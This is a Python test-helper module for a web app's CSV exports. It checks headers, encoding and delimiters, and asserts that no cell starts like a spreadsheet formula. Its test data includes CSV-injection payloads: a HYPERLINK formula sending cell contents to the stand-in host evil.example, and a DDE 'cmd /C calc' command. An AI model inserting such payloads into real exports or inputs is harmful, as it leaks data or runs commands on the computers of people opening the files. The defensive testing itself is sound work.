"""Reading the CSV files the app serves, and checking no cell would run as a formula."""

import csv
import io

# What spreadsheets take for the start of a formula (OWASP, "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# What a hostile user types as a name: each would run in a spreadsheet if written raw.
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)'
HOSTILE_NAMES = [
    HOSTILE,
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "'=déjà entre apostrophes",
]


def rows_of(response) -> list[list[str]]:
    """The cells of a CSV download (UTF-8, with or without BOM, ``;`` or ``,``)."""
    text = response.content.decode("utf-8-sig")
    header = text.split("\r\n", 1)[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_downloadable(response, filename_start: str) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith(f'attachment; filename="{filename_start}'), disposition
    assert disposition.endswith('.csv"'), disposition


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell starts like a formula (plain numbers such as ``-3.50`` aside)."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert _is_number(cell), f"formula left in a cell: {cell!r}"


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def french_rows(response) -> list[list[str]]:
    """The cells of a download written for a French spreadsheet: it starts with the UTF-8 byte
    order mark and its cells are separated by ``;`` (every row as long as the header)."""
    content = response.content
    assert content.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel would garble accents"
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows[0]) > 1, f"not separated by ';': {rows[0]!r}"
    assert all(len(row) == len(rows[0]) for row in rows), "rows of different lengths"
    return rows
